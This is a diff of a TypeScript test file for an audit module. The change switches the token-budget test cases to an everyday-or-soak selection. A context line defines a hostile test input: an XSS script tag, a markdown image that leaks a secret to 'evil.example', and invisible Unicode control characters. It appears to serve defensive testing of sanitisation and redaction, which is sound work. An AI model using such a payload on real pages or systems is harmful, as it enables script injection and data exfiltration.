@@ -6,6 +6,7 @@ import { type Audit, runAudit, type Verdict } from '../../src/copy/audit/audit.t
 import { RULES } from '../../src/copy/audit/rules.ts';
 import { openRecords } from '../copy/audit/open-records.ts';
 import { findActive, INJECTIONS, stringsOf } from '../support/injections.ts';
+import { everydayOrSoak } from '../support/soak.ts';
 
 const SECRET = 'key-4711-secret';
 const HOSTILE = `A\u202e\u200b<script>alert(1)</script> ![x](https://evil.example/${SECRET}) ${'long '.repeat(60)}`;
@@ -62,7 +63,7 @@ function redact<Value>(value: Value): Value {
   return JSON.parse(JSON.stringify(value).replaceAll(SECRET, '[redacted]'));
 }
 
-describe.each([200, 400, 1_000, 3_000, 8_000])('within %i tokens', (maxTokens) => {
+describe.each(everydayOrSoak([200, 1_000, 8_000], [200, 400, 1_000, 3_000, 8_000]))('within %i tokens', (maxTokens) => {
   const answer = fitAudit(audit, view, { maxTokens, source: 'sandbox', redact });
   const written = JSON.stringify(answer);
 
